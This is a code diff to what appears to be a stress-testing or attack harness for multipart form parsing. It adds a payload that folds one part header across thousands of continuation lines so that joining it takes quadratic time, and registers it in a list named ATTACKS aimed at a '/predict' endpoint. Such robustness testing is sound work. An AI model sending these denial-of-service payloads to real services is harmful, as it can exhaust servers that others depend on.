@@ -117,8 +117,14 @@ def headers_of_a_part(target: Target) -> str:
     return target.post("/predict", _parts(part, target.nbytes), MULTIPART)
 
 
+def folded_headers_of_a_part(target: Target) -> str:
+    """Parts with a header on thousands of lines, which take quadratic time to join."""
+    part = b'Content-Disposition: form-data; name="f"; filename="x"\r\nX: a' + b"\r\n a" * 3_900 + b"\r\n\r\nx\r\n"
+    return target.post("/predict", _parts(part, target.nbytes), MULTIPART)
+
+
 def blanks_of_a_part(target: Target) -> str:
-    """Spaces after a boundary and before a header's value, which the parser reads one by one."""
+    """Spaces after a boundary and before a header's value."""
     part = b'Content-Disposition:%bform-data; name="f"; filename="x"\r\n\r\nx' % (b" " * 15_000)
     delimiter = DELIMITER[:-2] + b" " * 15_000 + b"\r\n"
     count = min(900, target.nbytes // len(delimiter + part))
@@ -248,6 +254,7 @@ ATTACKS: list[Attack] = attacks_of(
     charset_of_a_name_that_fails,
     parameters_of_a_part,
     headers_of_a_part,
+    folded_headers_of_a_part,
     blanks_of_a_part,
     boundaries_that_are_none,
     tiny_parts,
